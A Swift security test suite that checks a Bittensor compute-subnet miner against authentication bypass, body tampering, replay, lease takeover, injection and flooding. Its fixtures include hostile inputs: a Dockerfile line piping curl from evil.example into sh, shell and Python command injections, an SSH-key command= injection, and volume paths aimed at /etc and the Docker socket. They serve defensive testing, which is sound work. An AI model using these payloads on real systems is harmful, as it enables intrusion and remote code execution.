import AccountKeys
import BittensorCore
import Foundation
import Synchronization
import Testing

@testable import ComputeSubnet

/// What was or could be done to a miner of the reference, done to ours over HTTP. Each row of
/// docs/protocols/bittensor-attacks.md names its test.
@Suite("Attacks on a miner", .serialized, .timeLimit(.minutes(3))) struct MinerAttackTests {
    private static let routes = ["Specs", "Allocate", "Challenge", "ProofOfGPU"]

    @Test func `strangers, the poor and the banned are served nothing, on no route`() async throws {
        try await AttackStage.run { stage in
            let axon = stage.info.hotkey
            for route in Self.routes {
                let good = try CapturedCall.classic(route, "{}", as: AttackStage.validator, to: axon)
                let served = try await good.send(to: stage)
                #expect(![401, 403].contains(served.status), "the control: \(route)")
                for uri in [AttackStage.stranger, AttackStage.poor, AttackStage.banned] {
                    let call = try CapturedCall.classic(route, "{}", as: uri, to: axon)
                    let reply = try await call.send(to: stage)
                    #expect(reply.status == 403, "\(uri) \(route)")
                    #expect(!reply.text.contains("output"))
                }
                // With a validator's name and no signature of it, the lists are not even asked.
                var unsigned = try CapturedCall.classic(route, "{}", as: AttackStage.stranger, to: axon)
                unsigned["bt_header_dendrite_hotkey"] =
                    try Keypair(uri: AttackStage.validator).ss58Address
                let reply = try await unsigned.send(to: stage)
                #expect(reply.status == 401, "\(route)")
            }
        }
    }

    /// The body of an allocation in which Mallory, who is on the way, has put her keys.
    private static func bodies() throws -> (own: String, changed: String) {
        let synapse = Allocate(
            AllocateRequest(AttackStage.lease, publicKey: TestRSA.publicKey), profile: .seed)
        let body: JSONValue = [
            "timeline": .int(synapse.timeline), "device_requirement": synapse.deviceRequirement,
            "checking": false, "public_key": .string(synapse.publicKey),
            "docker_requirement": synapse.dockerRequirement,
        ]
        let own = try body.text()
        let changed = own.replacingOccurrences(of: MinerFixture.userKey, with: MinerFixture.otherKey)
        try #require(changed != own)
        return (own, changed)
    }

    @Test func `a body changed on the way is the closed list's, unless the operator wants signed bodies`()
        async throws
    {
        let (own, changed) = try Self.bodies()
        func status(_ call: CapturedCall, _ stage: AttackStage) async throws -> (Int, Bool) {
            let reply = try await call.send(to: stage)
            return (reply.status, reply.text.contains(#""status":true"#))
        }
        // Closed list: the classic headers protect no body, so Mallory's key opens the container.
        try await AttackStage.run { stage in
            var call = try CapturedCall.classic(
                "Allocate", own, as: AttackStage.validator, to: stage.info.hotkey)
            call.body = changed
            #expect(try await status(call, stage) == (200, true))
            let keys = stage.fixture.host.state.withLock { $0.keys.values.flatMap(\.self) }
            #expect(keys.contains(MinerFixture.otherKey) && !keys.contains(MinerFixture.userKey))
        }
        // --signed-bodies: no lease for a body that nobody signed, one for a body of the other generation.
        try await AttackStage.run(configure: { $0.needsAuthenticatedBody = true }) { stage in
            var call = try CapturedCall.classic(
                "Allocate", own, as: AttackStage.validator, to: stage.info.hotkey)
            call.body = changed
            #expect(try await status(call, stage) == (200, false))
            #expect(stage.fixture.host.containers.isEmpty)
            var signed = try CapturedCall.btauth(
                "Allocate", own, as: AttackStage.validator, to: stage.info.hotkey)
            signed.body = changed
            #expect(try await status(signed, stage) == (401, false))
            #expect(stage.fixture.host.containers.isEmpty)
            let good = try CapturedCall.btauth(
                "Allocate", own, as: AttackStage.validator, to: stage.info.hotkey)
            #expect(try await status(good, stage) == (200, true))
        }
        // --mode btauth: the classic headers are not believed at all.
        try await AttackStage.run(btauth: true) { stage in
            let classic = try CapturedCall.classic(
                "Allocate", own, as: AttackStage.validator, to: stage.info.hotkey)
            #expect(try await status(classic, stage) == (401, false))
            var signed = try CapturedCall.btauth(
                "Allocate", own, as: AttackStage.validator, to: stage.info.hotkey)
            signed.body = changed
            #expect(try await status(signed, stage) == (401, false))
            #expect(stage.fixture.host.containers.isEmpty)
        }
    }

    @Test func `a captured call is not answered again, under no other uuid and after no restart`()
        async throws
    {
        let folder = FileManager.default.temporaryDirectory.appending(path: "replay-\(UUID())").path
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let axon = try Keypair(uri: "//Miner").ss58Address
        let captured = try CapturedCall.classic("Specs", "{}", as: AttackStage.validator, to: axon)
        var renamed = captured
        renamed["bt_header_dendrite_uuid"] = UUID().uuidString
        var unversioned = captured
        unversioned["bt_header_dendrite_version"] = nil
        unversioned["timeout"] = "999999"
        var fresh: CapturedCall?
        try await AttackStage.run(folder: folder) { stage in
            let sent = try CapturedCall.classic("Specs", "{}", as: AttackStage.validator, to: axon)
            fresh = sent
            #expect(try await sent.send(to: stage).status == 200)
            for replay in [
                sent,
                {
                    var call = sent; call["bt_header_dendrite_uuid"] = "x"; return call
                }(),
            ] {
                #expect(try await replay.send(to: stage).status == 401)
            }
        }
        let before = try #require(fresh)
        try await AttackStage.run(folder: folder) { stage in
            for replay in [before, captured, renamed, unversioned] {
                #expect(try await replay.send(to: stage).status == 401)
            }
            // Who signs anew is heard, once what the last start had set aside is over.
            let deadline = ContinuousClock.now + .seconds(20)
            var status = 0
            while status != 200, ContinuousClock.now < deadline {
                status = try await CapturedCall.classic("Specs", "{}", as: AttackStage.validator, to: axon)
                    .send(to: stage).status
            }
            #expect(status == 200)
        }
    }

    @Test func `another validator cannot end, change or take a lease, not even with its public key`()
        async throws
    {
        try await AttackStage.run { stage in
            let leased = try await stage.allocate(AttackStage.lease)
            #expect(leased.status == true)
            let (containers, keys) = stage.fixture.host.state.withLock { ($0.containers, $0.keys) }
            #expect(containers.count == 1)
            for key in [TestRSA.publicKey, "another"] {
                for kind in DockerAction.Kind.allCases {
                    let action = DockerAction(kind, sshKey: MinerFixture.otherKey)
                    let changed = try await stage.allocate(.change(action), as: AttackStage.rival, key: key)
                    #expect(changed.status == false, "\(kind)")
                }
                for operation in [AllocateRequest.Operation.deallocate, .checkLease, AttackStage.lease] {
                    let answer = try await stage.allocate(operation, as: AttackStage.rival, key: key)
                    #expect(answer.status == false && answer.info == nil)
                }
            }
            let (left, same) = stage.fixture.host.state.withLock { ($0.containers, $0.keys) }
            #expect(left == containers && same == keys)
            let alive = try await stage.allocate(.checkLease)
            #expect(alive.status == true && alive.expiresAt == leased.expiresAt)
        }
    }

    @Test func `build text, strange images and keys that are commands make nothing`() async throws {
        func lease(_ change: (inout DockerRequirement) -> Void) -> AllocateRequest.Operation {
            var docker = DockerRequirement(sshKey: MinerFixture.userKey)
            change(&docker)
            return MinerFixture.allocation(docker: docker).operation
        }
        let attacks = [
            lease { $0.dockerfile = "RUN curl http://evil.example | sh" },
            lease { $0.dockerfile = "x\nFROM scratch\nCOPY --from=host / /" },
            lease { $0.baseImage = "evil.example/image:latest" },
            lease { $0.baseImage = "ubuntu\nRUN id" },
            lease { $0.sshKey = "\"; touch /tmp/owned; echo \"" },
            lease { $0.sshKey += "\nssh-ed25519 AAAA second" },
            lease { $0.sshKey = "command=\"id\" " + $0.sshKey },
            lease { $0.sshKey += " $(touch /tmp/owned)" },
            lease { $0.volumePath = "/etc" },
            lease { $0.volumePath = "/tmp/../run/docker.sock" },
        ]
        try await AttackStage.run { stage in
            for (index, attack) in attacks.enumerated() {
                let answer = try await stage.allocate(attack)
                #expect(answer.status == false && answer.info == nil, "attack \(index)")
            }
            #expect(!stage.fixture.host.done.contains("prepare") && stage.fixture.host.containers.isEmpty)
            let good = try await stage.allocate(AttackStage.lease)
            #expect(good.status == true, "the control: the same without an attack")
            let change = DockerAction(.exchangeKey, sshKey: MinerFixture.otherKey + "\ncommand=\"id\" x")
            let exchanged = try await stage.allocate(.change(change))
            #expect(exchanged.status == false)
        }
    }

    @Test func `while one allocation takes its time, others are refused at once and specs are answered`()
        async throws
    {
        try await AttackStage.run { stage in
            let hold = stage.fixture.host.hold("prepare")
            try await withThrowingTaskGroup(of: AllocateOutput.self) { group in
                group.addTask { try await stage.allocate(AttackStage.lease) }
                try await stage.fixture.until("the container is being made") {
                    $0.host.done.contains("prepare")
                }
                for _ in 0..<8 {
                    let flood = try await stage.allocate(AttackStage.lease, as: AttackStage.rival)
                    #expect(flood.status == false)
                }
                let specs = try await stage.call(Specs(), as: AttackStage.rival)
                #expect(specs.isSuccess && !specs.specsOutput.isEmpty)
                hold.finish()
                let first = try await group.next()
                #expect(first?.status == true)
            }
            #expect(stage.fixture.host.state.withLock { $0.tenantsMax } == 1)
        }
    }

    @Test func `a program in the input of specs is not run`() async throws {
        let marker = FileManager.default.temporaryDirectory.appending(path: "owned-\(UUID())").path
        let inputs = [
            "#!/bin/sh\ntouch \(marker)\n", "$(touch \(marker))", "`touch \(marker)`", "; touch \(marker) #",
            "__import__('os').system('touch \(marker)')",
            Data("\u{7f}ELF#!/bin/sh\ntouch \(marker)".utf8).base64EncodedString(),
            String(repeating: "A", count: 1 << 20),
        ]
        try await AttackStage.run { stage in
            for input in inputs {
                let specs = try await stage.call(Specs(specsInput: input))
                #expect(specs.isSuccess)
                let document = try HardwareDocument(text: specs.specsOutput)
                #expect((document.cpu?.count ?? 0) > 0, "the same as for no input")
            }
            #expect(!FileManager.default.fileExists(atPath: marker))
        }
    }

    @Test func `a flood of challenges that nobody can solve is bounded and leaves nothing behind`()
        async throws
    {
        var limits = ChallengeLimits()
        limits.queueLengthMax = 3
        try await AttackStage.run(challenges: limits) { stage in
            var hopeless = Challenge(
                ChallengeRequest(
                    hash: "$BLAKE2$" + String(repeating: "0", count: 128), salt: "a1b2c3d4e5f60718",
                    characters: "abcdefghij", difficulty: 12))
            let (refusals, refused) = AsyncStream<String>.makeStream(bufferingPolicy: .bufferingOldest(64))
            let places = limits.queueLengthMax + 1
            try await withThrowingTaskGroup(of: Void.self) { group in
                for _ in 0..<(places + 4) {
                    let challenge = hopeless
                    group.addTask {
                        let answer = try await stage.call(challenge, timeout: .seconds(60))
                        refused.yield((try? ChallengeOutput(answer.output).error) ?? "")
                    }
                }
                // Those beyond the places are told at once; the others wait or run.
                var told: [String] = []
                for await refusal in refusals {
                    told.append(refusal)
                    if told.count == 4 { break }
                }
                #expect(told.allSatisfy { $0.contains("wait already") }, "\(told)")
                let specs = try await stage.call(Specs(), as: AttackStage.rival)
                #expect(specs.isSuccess)
                hopeless.challengeDifficulty = 13
                let beyond = try await stage.call(hopeless, as: AttackStage.rival)
                #expect(try ChallengeOutput(beyond.output).error != nil)
                // The callers go away, and their places are free again.
                group.cancelAll()
                while (try? await group.next()) != nil {}
            }
            let salt = "a1b2c3d4e5f60718"
            let easy = Challenge(
                ChallengeRequest(
                    hash: ChallengeGenerator.hash(password: "cab", salt: salt), salt: salt,
                    characters: "abcdefghij", difficulty: 3))
            let deadline = ContinuousClock.now + .seconds(60)
            var password: String?
            while password == nil, ContinuousClock.now < deadline {
                let solved = try await stage.call(easy, as: AttackStage.rival)
                password = try ChallengeOutput(solved.output).password
            }
            #expect(password == "cab")
        }
    }
}
